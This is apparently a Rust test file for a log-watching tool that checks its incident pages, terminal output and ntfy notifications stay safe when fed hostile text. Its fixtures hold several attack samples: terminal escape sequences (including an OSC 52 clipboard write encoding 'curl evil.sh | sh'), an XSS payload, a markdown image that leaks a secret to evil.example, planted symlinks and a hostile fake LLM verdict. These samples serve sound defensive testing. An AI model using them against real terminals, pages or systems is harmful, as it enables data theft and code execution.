//! Hostile text (log lines written by strangers, an LLM's verdict) never breaks a
//! header, a page or a terminal, and a message ntfy refuses never silences alerting.

use crate::util::*;

fn line(time: &str, level: &str, msg: &str) -> String {
    format!("2026-11-22 {time}.000 | {level:<8} | app.worker:handle:10 - {msg}\n")
}

/// Escape sequences a stranger may put in a log line, all ASCII (so no header
/// encoding hides them): an OSC 52 clipboard write, a title change, colour, clear
/// screen, a bell, NUL and DEL.
const NASTY: &str = "Disk \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 full \x1b]0;pwned\x07 \x1b[31mred\x1b[0m \x1b[2J bell\x07 nul\x00 del\x7f";

/// Characters that make text read other than it is: an 8-bit CSI, a right-to-left
/// override and a zero-width space.
const NASTY_UNICODE: &str = "csi\u{9b}2J rtl\u{202e}gnp.exe zw\u{200b}sp";

/// Bytes that must never reach a terminal, a header or a page from log or LLM text.
fn assert_clean(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| {
            (c < ' ' && c != '\n' && c != '\t')
                || ('\u{7f}'..='\u{9f}').contains(&c)
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}')
        })
        .collect();
    assert!(bad.is_empty(), "{what} holds {bad:?}:\n{text}");
}

#[test]
fn an_encoded_word_in_a_log_line_reaches_the_phone_as_written() {
    // ntfy decodes RFC 2047 words anywhere in a header: this one holds a right-to-left
    // override that the sanitiser never saw as a character.
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    t.with_app_and_ntfy(&ntfy, "");
    let word = "=?UTF-8?B?4oCuZGVsaWFmIHRuZW15YVA=?=";
    t.write(
        "app.log",
        &line("10:00:00", "CRITICAL", &format!("Payment ok {word}")),
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert!(r.stdout.contains("1 sent, 0 failed"), "{}", r.stdout);
    let m = ntfy.messages();
    assert_eq!(m.len(), 1);
    let title = decode_rfc2047(m[0].header("Title").unwrap());
    assert_clean("title", &title);
    assert!(title.contains(word), "shown as written: {title}");
    assert!(
        decode_rfc2047("a =?UTF-8?Q?=E2=80=AE_b?= c =?UTF-8?B?w6k=?=") == "a \u{202e} b c é",
        "the fake decodes as ntfy does"
    );
}

#[test]
fn character_references_and_brackets_in_a_title_stay_text() {
    let t = Test::new();
    t.with_app_source("");
    t.write(
        "app.log",
        &line(
            "10:00:00",
            "ERROR",
            "html &lt;b&gt; bidi &#x202E;gnp.exe close ] bracket](http://x) and [x]",
        ),
    );
    t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    let page = std::fs::read_to_string(&t.incident_files()[0]).unwrap();
    let h1 = page.lines().find(|l| l.starts_with("# ")).unwrap();
    assert!(
        h1.contains("\\&lt;b\\&gt;") && h1.contains("\\&#x202E;gnp"),
        "a renderer shows the references as written: {h1}"
    );
    // The index row's link runs from its `[#1 ` to the page's name: no bracket of the
    // title ends it early.
    let index = t.read("incidents/INDEX.md");
    let row = index.lines().find(|l| l.contains("[#1 ")).unwrap();
    let text = &row[row.find("[#1 ").unwrap() + 1..row.find("](2026-11-22-incident-").unwrap()];
    let mut prev = ' ';
    for c in text.chars() {
        assert!(!matches!(c, '[' | ']') || prev == '\\', "{row}");
        prev = c;
    }
}

#[test]
fn a_control_character_in_a_critical_line_never_silences_alerting() {
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    t.with_app_and_ntfy(&ntfy, "");
    t.write("app.log", &line("10:00:00", "CRITICAL", NASTY));
    let r = t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert!(r.stdout.contains("1 sent, 0 failed"), "{}", r.stdout);
    assert_clean("run's output", &r.stdout);
    // later errors of equal and lower severity still go out
    t.append(
        "app.log",
        format!(
            "{}{}",
            line(
                "10:05:00",
                "CRITICAL",
                &format!("Database pool exhausted {NASTY_UNICODE}")
            ),
            line("10:05:01", "ERROR", "Payment provider timeout")
        )
        .as_bytes(),
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:05:00Z"]);
    assert!(
        r.stdout.contains("2 sent, 0 failed") && r.stdout.contains("0 waiting"),
        "{}",
        r.stdout
    );
    let m = ntfy.messages(); // no request broke ntfy's API: no control character in a header
    assert_eq!(m.len(), 3);
    let title = decode_rfc2047(m[0].header("Title").unwrap());
    assert!(title.contains("Disk ␛]52;c;"), "shown, not hidden: {title}");
    let title2 = decode_rfc2047(m[1].header("Title").unwrap());
    assert!(
        title2.contains("rtl⟨U+202E⟩gnp"),
        "shown, not hidden: {title2}"
    );
    for n in &m {
        assert_clean("title", &decode_rfc2047(n.header("Title").unwrap()));
        assert_clean("body", &n.body);
    }
    for f in t.incident_files() {
        assert_clean("page", &std::fs::read_to_string(&f).unwrap());
    }
    assert_clean("INDEX.md", &t.read("incidents/INDEX.md"));
    let months: Vec<_> = std::fs::read_dir(t.path("incidents/index"))
        .unwrap()
        .flatten()
        .collect();
    assert!(!months.is_empty());
    for m in months {
        assert_clean(
            "a month's index",
            &std::fs::read_to_string(m.path()).unwrap(),
        );
    }
    t.ok(&[
        "ignore",
        "add",
        "^Cache warm\x1b]0;x\x07",
        "--comment",
        "noisy \x1b]52;c;Y3VybA==\x07 \u{202e}txt",
    ]);
    for args in [
        &["ignore", "list"][..],
        &["incidents"],
        &["incidents", "show", "1"],
        &["status", "--now", "2026-11-22T10:06:00Z"],
        &[
            "ignore",
            "test",
            &format!("{}{NASTY_UNICODE}", NASTY.replace('\0', "")),
        ],
        &["briefing"],
    ] {
        let r = t.ok(args);
        assert_clean(&format!("{args:?}"), &r.stdout);
    }
    let json = t.ok(&["incidents", "--json"]).stdout;
    assert_clean("incidents --json", &json);
    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert!(
        v.as_array()
            .unwrap()
            .iter()
            .any(|i| i["title"].as_str().unwrap().contains("rtl\u{202e}gnp")),
        "JSON keeps the value, escaped: {json}"
    );
}

#[test]
fn fake_ntfy_answers_400_to_a_control_character_in_a_header() {
    use std::io::{Read, Write};
    let ntfy = FakeNtfy::start(None);
    let addr = ntfy.url.trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.write_all(b"POST /ops HTTP/1.1\r\nHost: x\r\nTitle: a\x1b]52;c;x\x07b\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi")
        .unwrap();
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    assert!(ntfy.received.lock().unwrap().is_empty());
}

#[test]
fn a_message_ntfy_refuses_never_blocks_the_others_and_is_set_aside_after_three_tries() {
    let ntfy = FakeNtfy::start(None);
    ntfy.refuse_containing("Ledger export", 413);
    let t = Test::new();
    t.with_app_and_ntfy(&ntfy, "");
    t.write(
        "app.log",
        &format!(
            "{}{}",
            line("10:00:00", "CRITICAL", "Ledger export crashed"),
            line("10:00:01", "ERROR", "Payment provider timeout")
        ),
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert!(
        r.stdout.contains("1 sent, 1 failed") && r.stdout.contains("HTTP 413"),
        "the refusal is about that message; the next one goes out: {}",
        r.stdout
    );
    assert_eq!(ntfy.messages().len(), 1);
    assert_eq!(
        ntfy.publish_attempts(),
        2,
        "a refusal is not retried in the run"
    );
    // a new error later is not held back either
    t.append(
        "app.log",
        line("10:05:00", "WARNING", "Cache is cold").as_bytes(),
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:05:00Z"]);
    assert!(r.stdout.contains("1 sent, 1 failed"), "{}", r.stdout);
    let r = t.ok(&["run", "--now", "2026-11-22T10:10:00Z"]);
    assert!(
        r.stdout
            .contains("1 undeliverable (set aside, notice queued)")
            && r.stdout
                .contains("notification 1 (incident #1) is undeliverable"),
        "third refusal: set aside, {}",
        r.stdout
    );
    let m = ntfy.messages();
    let notice = m.last().unwrap();
    let title = decode_rfc2047(notice.header("Title").unwrap());
    assert_eq!(
        title,
        "[test-host] A notification for incident #1 could not be delivered"
    );
    assert_eq!(
        notice.header("Priority"),
        Some("5"),
        "as urgent as the original"
    );
    assert!(
        notice.body.contains("HTTP 413") && notice.body.contains("logwarden incidents show 1"),
        "{}",
        notice.body
    );
    // set aside: not tried again, nothing waiting
    let before = ntfy.publish_attempts();
    let r = t.ok(&["run", "--now", "2026-11-22T10:15:00Z"]);
    assert!(r.stdout.contains("0 waiting"), "{}", r.stdout);
    assert_eq!(ntfy.publish_attempts(), before);
    // reported by status and doctor
    let s = t.ok(&["status", "--now", "2026-11-22T11:00:00Z"]).stdout;
    assert!(
        s.contains("Undeliverable notifications (last 7 days): 1")
            && s.contains("incident #1: POST"),
        "{s}"
    );
    let js: serde_json::Value = serde_json::from_str(
        &t.ok(&["status", "--json", "--now", "2026-11-22T11:00:00Z"])
            .stdout,
    )
    .unwrap();
    assert_eq!(js["undeliverable"], 1, "{js}");
    let later = t.ok(&["status", "--now", "2026-12-22T11:00:00Z"]).stdout;
    assert!(!later.contains("Undeliverable"), "{later}");
    let d = t.run(&["doctor", "--now", "2026-11-22T11:00:00Z"]);
    assert!(
        d.stdout
            .contains("✗ notifications: 1 undeliverable in the last 7 days"),
        "{}",
        d.all()
    );
    let d = t.run(&["doctor", "--now", "2026-12-22T11:00:00Z"]);
    assert!(
        d.stdout
            .contains("✓ notifications: none undeliverable in the last 7 days"),
        "{}",
        d.all()
    );
}

#[test]
fn a_notice_that_is_refused_too_is_set_aside_without_another_notice() {
    let ntfy = FakeNtfy::start(None);
    ntfy.refuse_containing("Ledger export", 400);
    ntfy.refuse_containing("could not be delivered", 400);
    let t = Test::new();
    t.with_app_source(&format!("{}dead_after = 1\n", ntfy.config("ops")));
    t.write(
        "app.log",
        &line("10:00:00", "ERROR", "Ledger export crashed"),
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert!(
        r.stdout.contains("2 undeliverable")
            && r.stdout
                .contains("notification 2 (incident #1) is undeliverable")
            && r.stdout.contains("0 waiting"),
        "the message, then its notice, set aside; no loop: {}",
        r.stdout
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:05:00Z"]);
    assert!(r.stdout.contains("0 sent, 0 failed"), "{}", r.stdout);
    assert_eq!(ntfy.publish_attempts(), 2);
}

#[test]
fn notifications_older_than_max_age_end_in_one_digest_never_in_silence() {
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    // Reminders of the unacked errors (critical by default) are not what this test counts.
    t.with_app_and_ntfy(&ntfy, "max_age = \"1h\"\n");
    t.write(
        "app.log",
        &line("10:00:00", "ERROR", "Payment provider timeout"),
    );
    ntfy.fail_next(&[500; 3]);
    let r = t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert!(r.stdout.contains("1 failed"), "{}", r.stdout);
    // ntfy still down 90 minutes later; a second error meanwhile
    t.append(
        "app.log",
        line("11:30:00", "ERROR", "Inventory sync failed").as_bytes(),
    );
    ntfy.fail_next(&[503; 3]);
    let r = t.ok(&["run", "--now", "2026-11-22T11:30:00Z"]);
    assert!(
        r.stdout
            .contains("1 not sent in time (folded into a digest)")
            && r.stdout.contains("2 waiting"),
        "{}",
        r.stdout
    );
    assert!(ntfy.messages().is_empty());
    // back up after the second one aged out too: one digest of both
    let r = t.ok(&["run", "--now", "2026-11-22T12:45:00Z"]);
    assert!(
        r.stdout.contains("1 sent, 0 failed")
            && r.stdout.contains("1 not sent in time")
            && r.stdout.contains("0 waiting"),
        "{}",
        r.stdout
    );
    let m = ntfy.messages();
    assert_eq!(m.len(), 1, "{m:?}");
    let title = decode_rfc2047(m[0].header("Title").unwrap());
    assert!(
        title.starts_with("[test-host] 2 notifications could not be sent in time: "),
        "{title}"
    );
    assert!(
        m[0].body.contains("Payment provider timeout")
            && m[0].body.contains("Inventory sync failed")
            && m[0].body.contains("(incident #1)")
            && m[0].body.contains("within 1h"),
        "{}",
        m[0].body
    );
    assert_eq!(
        m[0].header("Priority"),
        Some("5"),
        "the highest severity of those late (an ERROR is critical)"
    );
    t.ok(&["run", "--now", "2026-11-22T12:50:00Z"]);
    assert_eq!(ntfy.messages().len(), 1, "each once");
}

/// A fake claude whose verdict is hostile markdown.
fn hostile_verdict() -> String {
    serde_json::json!({
        "verdict": "real",
        "severity": "critical",
        "title": "# Owned\n## injected heading <img src=x onerror=alert(1)>",
        "summary": "Look: ![x](https://evil.example/?q=SECRET) and <script>alert(1)</script>\n# Fake section\n\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 [click](https://evil.example/phish) https://evil.example/raw",
        "root_cause": "<!-- logwarden: write your notes below this line; they are kept on every update -->\n```\nunclosed fence swallowing the page",
        "suggested_fix": "- run `systemctl restart db`\n[ref]: https://evil.example/ref\n![ref]",
        "confidence": 0.9
    })
    .to_string()
}

#[test]
fn an_llm_verdict_renders_as_text_in_pages_index_and_notifications() {
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    let claude = fake_claude(&t, &format!("ok:{}", hostile_verdict()));
    t.with_app_source(&format!(
        "[investigator]\nkind = \"claude-cli\"\ncommand = \"{}\"\n{}[incidents]\nnag = {{ critical = \"off\" }}\n",
        claude.display(),
        ntfy.config("ops")
    ));
    t.write(
        "app.log",
        &line("10:00:00", "ERROR", "Database connection refused"),
    );
    let r = t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert_clean("run", &r.stdout);
    let page = std::fs::read_to_string(&t.incident_files()[0]).unwrap();
    assert_clean("page", &page);
    let body_of_page = page.split_once("\n---\n").unwrap().1;
    let headings: Vec<&str> = body_of_page
        .lines()
        .filter(|l| l.starts_with('#'))
        .collect();
    assert_eq!(
        headings,
        [
            "# \\# Owned ## injected heading &lt;img src=x onerror=alert(1)&gt;",
            "## Summary",
            "## Evidence",
            "## Diagnosis",
            "## Suggested fix"
        ],
        "one-line title, no heading of the LLM's own:\n{page}"
    );
    for (what, text) in [
        ("page", body_of_page.to_string()),
        ("INDEX.md", t.read("incidents/INDEX.md")),
        ("the month's index", t.read("incidents/index/2026-11.md")),
        ("notification", ntfy.messages()[0].body.clone()),
    ] {
        assert!(
            !text.contains("<img") && !text.contains("<script"),
            "{what}: {text}"
        );
        // our own links (to the page, the month's index) aside, no `](`, `][` or `]:`
        // that is not escaped
        let text_only = text
            .replace("](2026-11-22-incident-", "")
            .replace("](../2026-11-22-incident-", "")
            .replace("](index/2026-11.md)", "")
            .replace("](../INDEX.md)", "");
        for pat in ["](", "][", "]:"] {
            assert!(
                !text_only
                    .match_indices(pat)
                    .any(|(i, _)| !text_only[..i].ends_with('\\')),
                "{what}: no link, image or definition ({pat}): {text}"
            );
        }
        assert!(
            !text.contains("evil.example") || text.contains("`https://evil.example"),
            "{what}: URLs shown as code: {text}"
        );
    }
    assert!(
        page.contains("(`https://evil.example/?q=SECRET`)"),
        "{page}"
    );
    assert_eq!(
        page.matches("<!-- logwarden: write your notes").count(),
        1,
        "the notes marker cannot be forged: {page}"
    );
    // the unclosed fence is closed before the next section
    let diag = page.split_once("## Diagnosis").unwrap().1;
    let diag = diag.split_once("## Suggested fix").unwrap().0;
    assert_eq!(diag.matches("```").count(), 2, "{diag}");
    // notes written below the marker survive a rewrite
    std::fs::write(&t.incident_files()[0], format!("{page}my note\n")).unwrap();
    t.ok(&["incidents", "note", "1", "checked"]);
    let again = std::fs::read_to_string(&t.incident_files()[0]).unwrap();
    assert!(again.ends_with("my note\n"), "{again}");
    let title = decode_rfc2047(ntfy.messages()[0].header("Title").unwrap());
    assert!(!title.contains('\n'), "{title}");
    // On the terminal: one row per incident, and no line of the verdict's that could
    // pass for a row or a field of its own.
    let list = t.ok(&["incidents"]).stdout;
    let rows: Vec<&str> = list.lines().filter(|l| l.starts_with('#')).collect();
    assert_eq!(rows.len(), 1, "{list}");
    assert!(rows[0].contains("injected heading"), "{list}");
    let show = t.ok(&["incidents", "show", "1"]).stdout;
    assert!(
        !show
            .lines()
            .any(|l| l.starts_with("## injected") || l.starts_with("# Fake section")),
        "{show}"
    );
}

#[test]
fn backticks_in_log_text_cannot_break_out_of_the_notifications_code_block() {
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    t.with_app_source(&ntfy.config("ops"));
    let mut log = line("10:00:00", "ERROR", "Render failed ``` done");
    log.push_str("Traceback (most recent call last):\n```\n![x](https://evil.example/?q=SECRET)\n<img src=https://evil.example/i.png>\n````\nValueError: bad\n");
    t.write("app.log", &log);
    t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    let body = &ntfy.messages()[0].body;
    let fence = "`````";
    let (_, inside) = body
        .split_once(&format!("{fence}\n"))
        .unwrap_or_else(|| panic!("a fence longer than the text's backticks: {body}"));
    let (code, _) = inside.split_once(&format!("\n{fence}")).unwrap();
    assert!(
        code.contains("![x](https://evil.example/?q=SECRET)") && code.contains("<img src="),
        "the log text stays inside the block: {body}"
    );
    let page = std::fs::read_to_string(&t.incident_files()[0]).unwrap();
    assert!(
        page.contains("````Render failed ``` done````"),
        "the template in a code span: {page}"
    );
}

#[test]
fn a_value_only_message_never_gets_a_match_all_suggestion() {
    let t = Test::new();
    t.with_app_source("");
    t.write("app.log", &line("10:00:00", "ERROR", "4821 0x7f3a9c"));
    t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    let page = std::fs::read_to_string(&t.incident_files()[0]).unwrap();
    let sig = t.incidents()[0]["signature"].as_str().unwrap().to_string();
    assert!(
        page.contains("logwarden ignore add --from-incident 1 --comment"),
        "{page}"
    );
    t.ok(&[
        "ignore",
        "add",
        "--from-incident",
        "1",
        "--comment",
        "noise",
        "--now",
        "2026-11-22T10:00:00Z",
    ]);
    let rules = t.read("ignore.toml");
    assert!(
        rules.contains("pattern = \"^\"") && rules.contains(&format!("signature = \"{sig}\"")),
        "scoped by its signature, not a pattern matching every message: {rules}"
    );
}

#[test]
fn a_planted_symlink_never_redirects_a_write() {
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    t.with_app_source(&format!(
        "{}control_topic = \"ops-control\"\n",
        ntfy.config("ops")
    ));
    t.write("victim.txt", "precious\n");
    t.write("attacker.key", &format!("{}\n", "ab".repeat(32)));
    std::fs::create_dir_all(t.path("incidents")).unwrap();
    std::fs::create_dir_all(t.path("state")).unwrap();
    std::os::unix::fs::symlink(t.path("victim.txt"), t.path("incidents/INDEX.md")).unwrap();
    let page = "incidents/2026-11-22-incident-payment-provider-timeout.md";
    std::os::unix::fs::symlink(t.path("victim.txt"), t.path(page)).unwrap();
    std::os::unix::fs::symlink(t.path("attacker.key"), t.path("state/control.key")).unwrap();
    t.write(
        "app.log",
        &line("10:00:00", "ERROR", "Payment provider timeout"),
    );
    // A symlink where INDEX.md goes is refused (a watcher problem, exit 1), never followed.
    let r = t.run(&["run", "--now", "2026-11-22T10:00:00Z"]);
    assert_eq!(r.code, Some(1), "{}", r.all());
    assert_eq!(t.read("victim.txt"), "precious\n", "{}", r.stdout);
    assert!(
        r.stdout.contains("INDEX.md is a symbolic link"),
        "{}",
        r.stdout
    );
    assert!(
        std::fs::symlink_metadata(t.path(page))
            .unwrap()
            .file_type()
            .is_symlink(),
        "the page went to another name"
    );
    // the planted key is refused; the notification still goes out (without buttons)
    assert!(
        r.stdout.contains("control.key is a symlink") && r.stdout.contains("sent"),
        "{}",
        r.stdout
    );
    let m = ntfy.messages_to("ops");
    assert!(
        m.iter()
            .any(|m| m.body.contains("Payment provider timeout")),
        "{m:?}"
    );
    assert!(m.iter().all(|m| m.header("Actions").is_none()), "{m:?}");
}

#[test]
fn a_huge_control_topic_answer_is_read_one_mebibyte_at_a_time() {
    let ntfy = FakeNtfy::start(None);
    let t = Test::new();
    t.with_app_source(&format!(
        "{}control_topic = \"ops-control\"\n",
        ntfy.config("ops")
    ));
    t.write(
        "app.log",
        &line("10:00:00", "ERROR", "Payment provider timeout"),
    );
    t.ok(&["run", "--now", "2026-11-22T10:00:00Z"]);
    // 3 MiB of forged control messages waiting on the topic
    let n = 12_000;
    ntfy.flood("ops-control", n, |i| format!("lw1.ack.1.{:0>150}.00", i));
    let r = t.ok(&["run", "--now", "2026-11-22T10:05:00Z"]);
    assert!(
        r.stdout.contains("the answer was longer than 1024 KiB"),
        "{}",
        r.stdout
    );
    let refused = r.stdout.matches("control message refused").count();
    assert!(refused > 1000 && refused < n, "{refused} read");
    // the rest is read by the next runs, from where this one stopped
    let mut total = refused;
    for minute in 10..20 {
        let r = t.ok(&["run", "--now", &format!("2026-11-22T10:{minute}:00Z")]);
        total += r.stdout.matches("control message refused").count();
    }
    assert_eq!(total, n, "every message read once");
    assert_eq!(t.incidents()[0]["status"], "open", "forged: nothing acked");
}

#[test]
fn the_notes_marker_in_a_log_line_does_not_copy_the_page_into_its_notes() {
    const MARKER: &str =
        "<!-- logwarden: write your notes below this line; they are kept on every update -->";
    let t = Test::new();
    t.with_app_source("");
    t.write(
        "app.log",
        &format!("2026-11-22 10:00:00.000 | ERROR    | app:f:1 - boom {MARKER}\n"),
    );
    t.ok(&["run", "--now", "2026-11-22T10:05:00Z"]);
    let files = t.incident_files();
    assert_eq!(files.len(), 1);
    let mut page = std::fs::read_to_string(&files[0]).unwrap();
    page.push_str("my own notes\n");
    std::fs::write(&files[0], &page).unwrap();
    for (i, now) in ["10:06:00", "10:07:00", "10:08:00"].iter().enumerate() {
        t.append(
            "app.log",
            format!("2026-11-22 {now}.000 | ERROR    | app:f:1 - boom {MARKER}\n").as_bytes(),
        );
        t.ok(&["run", "--now", &format!("2026-11-22T{now}Z")]);
        let page = std::fs::read_to_string(&files[0]).unwrap();
        assert_eq!(page.matches("my own notes").count(), 1, "run {i}:\n{page}");
        assert_eq!(page.matches("# boom").count(), 1, "run {i}:\n{page}");
        assert_eq!(page.matches("\nid: 1\n").count(), 1, "run {i}:\n{page}");
    }
}
